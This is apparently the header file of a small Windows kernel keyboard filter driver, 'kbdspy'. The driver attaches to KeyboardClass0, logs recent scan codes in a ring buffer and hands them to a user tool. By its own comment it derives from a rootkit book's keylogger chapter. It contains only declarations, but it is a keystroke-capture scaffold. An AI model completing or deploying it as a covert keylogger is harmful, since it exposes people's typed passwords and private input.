/*
 * kbdspy - tiny keyboard filter, started from the "hello world" driver
 * and the keyboard logger chapter of that rootkit book.
 *
 * Attaches on top of \Device\KeyboardClass0 and remembers the last
 * few make codes. A control device lets the user tool read them back.
 */
#pragma once

#include <ntddk.h>
#include <ntddkbd.h>

#define KBDSPY_TAG          'ypSK'

#define KBD_CLASS_NAME      L"\\Device\\KeyboardClass0"
#define CTL_DEVICE_NAME     L"\\Device\\KbdSpy"
#define CTL_SYMLINK_NAME    L"\\DosDevices\\KbdSpy"

#define RING_SIZE           256     /* must be power of two */
#define RING_MASK           (RING_SIZE - 1)

/* magic values so a dispatch routine knows which device it got */
#define EXT_MAGIC_FILTER    'tliF'
#define EXT_MAGIC_CONTROL   'ltnC'

#define IOCTL_KBDSPY_GET_STATS \
    CTL_CODE(FILE_DEVICE_UNKNOWN, 0x801, METHOD_BUFFERED, FILE_READ_ACCESS)
#define IOCTL_KBDSPY_GET_RING \
    CTL_CODE(FILE_DEVICE_UNKNOWN, 0x802, METHOD_BUFFERED, FILE_READ_ACCESS)

#define DBG_PREFIX "[kbdspy] "

#if DBG
#define LOG(fmt, ...) \
    DbgPrintEx(DPFLTR_IHVDRIVER_ID, DPFLTR_ERROR_LEVEL, DBG_PREFIX fmt "\n", __VA_ARGS__)
#else
#define LOG(fmt, ...) \
    DbgPrintEx(DPFLTR_IHVDRIVER_ID, DPFLTR_TRACE_LEVEL, DBG_PREFIX fmt "\n", __VA_ARGS__)
#endif

/* evaluate, log and bail to the cleanup label on failure */
#define CHECK(expr)                                             \
    do {                                                        \
        status = (expr);                                        \
        if (!NT_SUCCESS(status)) {                              \
            LOG("%s failed: 0x%08X (line %d)", #expr, status, __LINE__); \
            goto cleanup;                                       \
        }                                                       \
    } while (0)

#define EXT(dev)    ((PKBDSPY_EXT)(dev)->DeviceExtension)

typedef struct _KBDSPY_EXT {
    ULONG           Magic;
    PDEVICE_OBJECT  LowerDevice;        /* only valid on the filter */
    ULONG           KeysSeen;
    ULONG           BreaksSeen;
    KSPIN_LOCK      RingLock;
    ULONG           RingHead;
    USHORT          Ring[RING_SIZE];
} KBDSPY_EXT, *PKBDSPY_EXT;

typedef struct _KBDSPY_STATS {
    ULONG KeysSeen;
    ULONG BreaksSeen;
    LONG  PendingReads;
} KBDSPY_STATS, *PKBDSPY_STATS;

/* globals (driver.c) */
extern PDEVICE_OBJECT g_FilterDevice;
extern PDEVICE_OBJECT g_ControlDevice;
extern volatile LONG  g_PendingReads;

/* dispatch.c */
DRIVER_DISPATCH KbdSpyPassThrough;
DRIVER_DISPATCH KbdSpyRead;
DRIVER_DISPATCH KbdSpyCreateClose;
DRIVER_DISPATCH KbdSpyDeviceControl;
IO_COMPLETION_ROUTINE KbdSpyReadComplete;
